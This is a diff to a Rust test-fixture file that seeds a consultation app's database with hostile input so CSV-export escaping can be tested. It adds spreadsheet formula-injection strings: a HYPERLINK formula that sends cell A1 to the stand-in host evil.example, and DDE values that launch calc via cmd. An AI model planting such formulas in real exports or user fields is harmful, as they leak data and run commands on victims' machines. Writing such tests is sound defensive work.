@@ -50,6 +50,15 @@ pub const LONG: &str = concat!(
     "\u{202E}cod.exe \u{0645}\u{0631}\u{062D}\u{0628}\u{0627} \u{05E9}\u{05DC}\u{05D5}\u{05DD} <",
 );
 
+/// Text a spreadsheet would run as a formula when it opens a CSV download.
+pub const FORMULAS: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik voor meer\")",
+    "+31 6 12345678 bel me",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "  =1+1",
+];
+
 /// A display name: names refuse `<` and `>`, so this one tries the other characters that matter.
 pub const DISPLAY_NAME: &str = "Sam \"O'Neil\" &amp; Ko";
 
@@ -243,7 +252,7 @@ pub async fn store(router: &Router, db: &DatabaseConnection, origin: &str) -> Re
         .await?
         .id();
     let (opens, closes) = (day(-1), day(30));
-    let options = format!("{SHORT}\nGewoon");
+    let options = format!("{SHORT}\nGewoon\n{}", FORMULAS[0]);
     let poll = client
         .ok(
             "create_poll",
@@ -403,6 +412,16 @@ pub async fn store(router: &Router, db: &DatabaseConnection, origin: &str) -> Re
             &resident,
         )
         .await?;
+    for formula in FORMULAS {
+        let token = token(client.ok("get_consultation", &[m, ("id", &closed_consultation)], &resident).await?.json()?);
+        client
+            .ok(
+                "post_comment",
+                &[m, ("consultation", &closed_consultation), ("submission_token", &token), ("body", formula)],
+                &resident,
+            )
+            .await?;
+    }
     let owned = trajectory_form(day(-1));
     let mut form = as_refs(&owned);
     form.insert(0, ("id", closed.as_str()));
